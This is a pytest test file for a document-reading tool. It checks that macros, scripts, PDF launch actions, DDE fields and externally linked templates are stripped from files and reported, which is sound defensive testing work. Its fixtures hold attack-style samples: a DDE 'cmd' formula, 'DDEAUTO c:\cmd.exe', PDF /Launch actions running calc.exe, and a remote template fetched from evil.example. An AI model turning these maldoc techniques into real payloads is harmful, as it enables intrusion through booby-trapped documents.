"""Files that could do something of their own: they are read without it, and what it was is said."""

import zipfile
from io import BytesIO
from pathlib import Path
from subprocess import run

import openpyxl
import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tarmac.office.packs.pack import Pack
from tests.office import hostile
from tests.office.practice import MANIFEST, read_files
from tests.office.test_packs_odt import odt
from tests.serving import command, environment

MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ENABLED = b"application/vnd.ms-word.document.macroEnabled.main+xml"
RELATION = (
    b'<Relationship Id="rV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
    b'Target="vbaProject.bin"/></Relationships>'
)


def word_with_macros() -> bytes:
    content = hostile.changed(hostile.word(), hostile.CONTENT_TYPES, MAIN, ENABLED)
    content = hostile.changed(content, "word/_rels/document.xml.rels", b"</Relationships>", RELATION)
    return hostile.packed(hostile.members(content) | {"word/vbaProject.bin": b"Sub AutoOpen()"})


def workbook_with_macros() -> bytes:
    types = hostile.members(hostile.workbook())[hostile.CONTENT_TYPES]
    enabled = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return hostile.packed(
        hostile.members(hostile.workbook()) | {hostile.CONTENT_TYPES: enabled, "xl/vbaProject.bin": b"Sub Go()"}
    )


def pdf(*actions: str, at_click: str = "", named: bool = False) -> bytes:
    """A PDF that does `actions` one after another when it is opened."""
    writer = PdfWriter(PdfReader(BytesIO(hostile.pdf([b"BT /F 9 Tf 9 9 Td (Good morning.) Tj ET"]))))
    following: DictionaryObject | None = None
    for kind in reversed(actions):
        following = action(kind, following)
    if following is not None:
        writer.root_object[NameObject("/OpenAction")] = following
    if at_click:
        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action(at_click)})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
    if named:
        script = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
        names = ArrayObject([TextStringObject("x"), writer._add_object(script)])
        scripts = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})})
        writer.root_object[NameObject("/Names")] = scripts
    content = BytesIO()
    writer.write(content)
    return content.getvalue()


def action(kind: str, following: DictionaryObject | None = None) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("calc.exe")})
    if following is not None:
        made[NameObject("/Next")] = following
    return made


def dde() -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"], book.active["A2"] = "Good morning.", "=cmd|'/c calc'!A1"
    content = BytesIO()
    book.save(content)
    return content.getvalue()


def template_from_elsewhere() -> bytes:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return hostile.packed(hostile.members(hostile.word()) | {"word/_rels/settings.xml.rels": relation})


def with_member(name: str) -> bytes:
    return hostile.packed(hostile.members(hostile.word()) | {name: b"x"})


ACTIVE = {
    "a.docm": (word_with_macros(), ["macros"]),
    "named-otherwise.docx": (word_with_macros(), ["macros"]),
    "a.xlsm": (workbook_with_macros(), ["macros"]),
    "a.odt": (odt("<text:p>Good morning.</text:p>", **{"Basic/M.xml": b"<x/>", "Scripts/x.py": b""}), ["macros"]),
    "template.docx": (template_from_elsewhere(), ["links"]),
    "ole.docx": (with_member("word/embeddings/oleObject1.bin"), ["objects"]),
    "dde.docx": (hostile.word(body=b"<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>"), ["dde"]),
    "dde.xlsx": (dde(), ["dde"]),
    "a.html": (b"<title>T</title><p onclick='x()'>Good morning.</p><script>alert(1)</script>", ["scripts"]),
    "opened.pdf": (pdf("/JavaScript"), ["scripts"]),
    "launch.pdf": (pdf("/GoTo", "/Launch"), ["actions"]),
    "click.pdf": (pdf(at_click="/Launch"), ["actions"]),
    "names.pdf": (pdf(named=True), ["scripts"]),
}  # fmt: skip
INERT = ("AutoOpen", "Sub Go", "/JavaScript", "/Launch", "app.alert", "calc.exe", "<script", "onclick")


def read(folder: Path, name: str, content: bytes) -> Pack:
    pack = read_files(folder, {name: content})
    assert [problem for problem in pack.problems if not problem.is_notice] == []
    return pack


def unpacked(content: bytes) -> str:
    """All that a reader of the file would find in it."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(BytesIO(content)) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        return "".join(f"{name}\n{member.decode('latin-1')}" for name, member in members.items())
    return content.decode("latin-1")


@pytest.mark.parametrize("name", ACTIVE)
def test_the_file_is_read_and_what_was_active_is_named(tmp_path: Path, name: str) -> None:
    content, codes = ACTIVE[name]
    pack = read(tmp_path, name, content)
    assert [(problem.path, problem.code) for problem in pack.problems] == [(name, code) for code in codes]
    assert pack.items[0].path == name
    assert any("Good morning." in segment.text for segment in pack.items[0].segments)


TAKEN_OUT = [name for name, (_, codes) in ACTIVE.items() if codes[0] in ("macros", "scripts", "actions")]


@pytest.mark.parametrize("name", TAKEN_OUT)
def test_what_is_said_to_be_taken_out_is_not_in_the_file_that_is_kept(tmp_path: Path, name: str) -> None:
    item = read(tmp_path, name, ACTIVE[name][0]).items[0]
    kept = unpacked(item.files[0].content)
    assert [word for word in (*INERT, "vbaProject", "macroEnabled", "Basic/", "Scripts/") if word in kept] == []
    again = read_files(tmp_path / "again", {item.files[0].name: item.files[0].content})
    assert again.problems == []
    assert again.items[0].segments == item.segments


def test_a_file_with_macros_is_kept_as_one_without(tmp_path: Path) -> None:
    item = read(tmp_path, "a.docm", word_with_macros()).items[0]
    assert (item.files[0].name, item.files[0].type) == ("a.docx", MAIN.decode().removesuffix(".main+xml"))
    assert item.details["format"] == "docx"


@pytest.mark.parametrize("content", [hostile.word(), odt(), pdf(), pdf("/GoTo"), pdf(at_click="/URI")])
def test_a_file_that_does_nothing_is_kept_to_the_byte(tmp_path: Path, content: bytes) -> None:
    name = "a.pdf" if content.startswith(b"%PDF") else "a.odt" if b"content.xml" in content else "a.docx"
    pack = read(tmp_path, name, content)
    assert (pack.problems, pack.items[0].files[0].content) == ([], content)


def test_actions_that_follow_one_another_in_a_circle_end(tmp_path: Path) -> None:
    writer = PdfWriter(PdfReader(BytesIO(pdf())))
    first, second = (writer._add_object(action("/GoTo")) for _ in range(2))
    first.get_object()[NameObject("/Next")], second.get_object()[NameObject("/Next")] = second, first  # type: ignore[index]
    writer.root_object[NameObject("/OpenAction")] = first
    content = BytesIO()
    writer.write(content)
    assert read(tmp_path, "circle.pdf", content.getvalue()).problems == []


def test_an_attachment_loses_its_macros_and_one_that_cannot_be_cleaned_is_named(tmp_path: Path) -> None:
    letter = hostile.letter("Invoice")
    letter.add_attachment(word_with_macros(), maintype="application", subtype="x", filename="invoice.docm")
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le")
    letter.add_attachment(old, maintype="application", subtype="msword", filename="old.doc")
    letter.add_attachment(b"PK\x03\x04 broken", maintype="application", subtype="x", filename="broken.docx")
    pack = read(tmp_path, "mail/invoice.eml", letter.as_bytes())
    assert [problem.code for problem in pack.problems] == ["macros", "old_macros"]
    assert [each["name"] for each in pack.items[0].details["attachments"]] == ["invoice.docx", "old.doc", "broken.docx"]
    assert "AutoOpen" not in unpacked(pack.items[0].files[1].content)
    assert pack.items[0].details["attachments"][0]["bytes"] == len(pack.items[0].files[1].content)


def test_a_notice_is_printed_and_is_no_failure(tmp_path: Path) -> None:
    folder = tmp_path / "tiny"
    folder.mkdir()
    (folder / "pack.yaml").write_text(MANIFEST, encoding="utf-8")
    (folder / "truth.yaml").write_text("[]\n", encoding="utf-8")
    (folder / "plan.docm").write_bytes(word_with_macros())
    for verb in ("check", "add"):
        done = run(
            command("office", verb, str(folder)), env=environment(tmp_path), capture_output=True, text=True, check=False
        )
        assert (done.returncode, done.stderr) == (0, "plan.docm holds macros, which were taken out.\n")
